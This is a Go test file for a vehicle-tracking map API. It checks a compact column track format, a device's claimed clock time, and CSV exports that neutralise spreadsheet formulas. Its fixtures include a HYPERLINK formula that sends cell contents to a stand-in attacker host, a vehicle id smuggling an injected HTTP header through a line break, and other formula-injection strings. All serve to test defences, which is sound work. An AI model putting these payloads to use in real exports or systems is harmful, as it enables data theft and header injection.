package mapui_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"mime"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/borderwatch/borderwatch/mapui/access"
	"github.com/borderwatch/borderwatch/tracker"
)

// TestTrackColumns: the compact format decodes to the same fixes as the JSON one.
func TestTrackColumns(t *testing.T) {
	a := newAPI(t)
	t0 := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	var b tracker.Batch
	for i := range 50 {
		b.Fixes = append(b.Fixes, tracker.Fix{VehicleID: "COL1", DeviceID: "COL1", Time: t0.Add(time.Duration(i) * 10 * time.Second), ReceivedAt: t0,
			Lat: 43.6 + float64(i)*0.0001234, Lon: 111.9 - float64(i%7)*0.0003, SpeedKmh: float64(i%13) * 7.3, Valid: i != 17})
		// An e-seal on the truck: locked, unlocked at fix 20 (the event first, then the state),
		// its battery low from fix 30.
		switch {
		case i == 20:
			b.Fixes[i].Attrs = map[string]any{tracker.AttrSealEvent: tracker.SealEventUnlocked, tracker.AttrUnlockMethod: tracker.UnlockCard}
		case i >= 30:
			b.Fixes[i].Attrs = map[string]any{tracker.AttrSealState: tracker.SealUnlocked, tracker.AttrBatteryLow: true}
		case i >= 20:
			b.Fixes[i].Attrs = map[string]any{tracker.AttrSealState: tracker.SealUnlocked, "mileage_km": float64(i)}
		case i >= 5:
			b.Fixes[i].Attrs = map[string]any{tracker.AttrSealState: tracker.SealLocked}
		}
	}
	if err := a.store.Commit(t.Context(), &b); err != nil {
		t.Fatal(err)
	}
	q := fmt.Sprintf("/api/v1/vehicles/COL1/track?from=%s&to=%s", t0.Format(time.RFC3339), t0.Add(time.Hour).Format(time.RFC3339))
	var full struct{ Fixes []tracker.Fix }
	if err := json.Unmarshal(a.do("GET", q, access.RolePatrol, nil, 200), &full); err != nil {
		t.Fatal(err)
	}
	var cols struct {
		Count              int
		T, Lat, Lon, Speed []int64
		Invalid            []int
		Seal               []struct {
			I          int
			State      string
			BatteryLow bool `json:"battery_low"`
		}
	}
	if err := json.Unmarshal(a.do("GET", q+"&format=columns", access.RolePatrol, nil, 200), &cols); err != nil {
		t.Fatal(err)
	}
	if cols.Count != 50 || len(full.Fixes) != 50 || len(cols.T) != 50 || len(cols.Lat) != 50 || len(cols.Lon) != 50 || len(cols.Speed) != 50 {
		t.Fatalf("count %d, json %d fixes, columns %d/%d/%d/%d", cols.Count, len(full.Fixes), len(cols.T), len(cols.Lat), len(cols.Lon), len(cols.Speed))
	}
	var tm, lat, lon int64
	for i, f := range full.Fixes {
		tm, lat, lon = tm+cols.T[i], lat+cols.Lat[i], lon+cols.Lon[i]
		if tm != f.Time.UnixMilli() || abs(float64(lat)/1e6-f.Lat) > 5e-7 || abs(float64(lon)/1e6-f.Lon) > 5e-7 || abs(float64(cols.Speed[i])/10-f.SpeedKmh) > 0.05 {
			t.Fatalf("fix %d: columns give %d %d %d %d, json %v", i, tm, lat, lon, cols.Speed[i], f)
		}
	}
	if len(cols.Invalid) != 1 || cols.Invalid[0] != 17 {
		t.Errorf("invalid %v, want [17]", cols.Invalid)
	}
	// Only the changes of the seal's state are sent, and no other attribute.
	if got := fmt.Sprint(cols.Seal); got != "[{5 locked false} {20 unlocked false} {30 unlocked true}]" {
		t.Errorf("seal %s", got)
	}
}

// TestTrackShowsClaimedDeviceTime: a fix from a device whose clock was ahead counts at the
// time it was received; the time its device claimed, the evidence of the bad clock (or of a
// forger), is in the API's fix and in the replay's columns, beside the fix it belongs to.
func TestTrackShowsClaimedDeviceTime(t *testing.T) {
	a := newAPI(t)
	t0 := time.Date(2026, 11, 2, 0, 0, 0, 0, time.UTC)
	claimed := t0.Add(10*time.Second + 3*time.Minute).Format(time.RFC3339Nano)
	b := tracker.Batch{Fixes: []tracker.Fix{
		{VehicleID: "DT1", DeviceID: "DT1", Time: t0, ReceivedAt: t0, Lat: 43.6, Lon: 111.9, Valid: true},
		{VehicleID: "DT1", DeviceID: "DT1", Time: t0.Add(10 * time.Second), ReceivedAt: t0.Add(10 * time.Second), Lat: 43.601, Lon: 111.9, Valid: true,
			Flags: []string{tracker.FlagRetimed}, Attrs: map[string]any{tracker.AttrDeviceTime: claimed}},
	}}
	if err := a.store.Commit(t.Context(), &b); err != nil {
		t.Fatal(err)
	}
	q := fmt.Sprintf("/api/v1/vehicles/DT1/track?from=%s&to=%s", t0.Format(time.RFC3339), t0.Add(time.Hour).Format(time.RFC3339))
	var full struct{ Fixes []tracker.Fix }
	if err := json.Unmarshal(a.do("GET", q, access.RolePatrol, nil, 200), &full); err != nil {
		t.Fatal(err)
	}
	if len(full.Fixes) != 2 || full.Fixes[1].Attrs[tracker.AttrDeviceTime] != claimed {
		t.Fatalf("fixes %+v, want the second with device time %s", full.Fixes, claimed)
	}
	var cols struct {
		DeviceTime []struct {
			I int
			T string
		} `json:"device_time"`
	}
	if err := json.Unmarshal(a.do("GET", q+"&format=columns", access.RolePatrol, nil, 200), &cols); err != nil {
		t.Fatal(err)
	}
	if got := fmt.Sprint(cols.DeviceTime); got != "[{1 "+claimed+"}]" {
		t.Errorf("device_time column %s, want fix 1 at %s", got, claimed)
	}
}

func abs(x float64) float64 {
	if x < 0 {
		return -x
	}
	return x
}

// TestCSVExportNeutralisesFormulas: a device that names itself like a formula (with unknown
// devices accepted, its id is also its vehicle's) cannot run it in the investigator's
// spreadsheet, and neither it nor a plate in Chinese breaks the file name.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	a := newAPI(t)
	t0 := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	// Vehicle ids go in the URL, so they hold no slash; the device id does.
	device := `=HYPERLINK("http://evil.example/?leak="&A1,"Open")`
	vehicles := []string{"蒙A00001", `a"b;c\d` + "\r\nX-Injected: 1", "=1+1", "+SUM(1,1)", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"}
	var b tracker.Batch
	for i, v := range vehicles {
		b.Fixes = append(b.Fixes, tracker.Fix{VehicleID: v, DeviceID: device, Time: t0.Add(time.Duration(i) * time.Second), ReceivedAt: t0,
			Lat: 43.6, Lon: -0.5, AltitudeM: -12, Valid: true, Flags: []string{"=1+1"}})
	}
	if err := a.store.Commit(t.Context(), &b); err != nil {
		t.Fatal(err)
	}
	period := "&from=" + t0.Format(time.RFC3339) + "&to=" + t0.Add(time.Hour).Format(time.RFC3339)
	for _, v := range vehicles {
		body, header := export(t, a, "/api/v1/vehicles/"+url.PathEscape(v)+"/track?format=csv"+period)
		rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%q: %d rows, %v: %s", v, len(rows), err, body)
		}
		row := rows[1]
		if row[1] != strings.ReplaceAll(spreadsheet(v), "\r\n", "\n") || row[2] != "'"+device || row[12] != "'=1+1" {
			t.Errorf("%q: vehicle_id %q, device_id %q, flags %q", v, row[1], row[2], row[12])
		}
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) || (cell != "" && cell[0] == '-' && !isNumber(cell)) {
				t.Errorf("%q: cell %d %q starts a formula", v, i, cell)
			}
		}
		if row[6] != "-0.5" || row[9] != "-12" {
			t.Errorf("%q: lon %q, altitude %q: numbers must stay numbers", v, row[6], row[9])
		}
		if header.Get("X-Injected") != "" {
			t.Errorf("%q: header injected", v)
		}
		cd := header.Get("Content-Disposition")
		if !regexp.MustCompile(`^attachment; filename=[A-Za-z0-9._-]+; filename\*=UTF-8''[A-Za-z0-9._%-]+$`).MatchString(cd) {
			t.Errorf("%q: Content-Disposition %q", v, cd)
		}
		_, params, err := mime.ParseMediaType(cd)
		if err != nil || !strings.HasSuffix(params["filename"], "_20261101-0800_20261101-0900.csv") || strings.ContainsAny(params["filename"], "\"/\\;\r\n\t") {
			t.Errorf("%q: file name %q (%v)", v, params["filename"], err)
		}
		if v == "蒙A00001" && !strings.HasPrefix(params["filename"], "蒙A00001_") {
			t.Errorf("file name %q, want the plate in UTF-8", params["filename"])
		}
	}
}

// export fetches an export as an investigator would: its body and headers, the test failed unless 200.
func export(t *testing.T, a *api, path string) ([]byte, http.Header) {
	t.Helper()
	req, _ := http.NewRequest("GET", a.srv.URL+path, nil)
	req.Header.Set("Authorization", "Bearer "+a.tokens[access.RoleInvestigator])
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != 200 {
		t.Fatalf("GET %s: %d %s", path, resp.StatusCode, body)
	}
	return body, resp.Header
}

// spreadsheet is a cell as a spreadsheet must read it: a leading = + - @, tab or line break
// is preceded by an apostrophe.
func spreadsheet(s string) string {
	if strings.ContainsRune("=+-@\t\r\n", rune(s[0])) {
		return "'" + s
	}
	return s
}

func isNumber(s string) bool {
	_, err := strconv.ParseFloat(s, 64)
	return err == nil
}
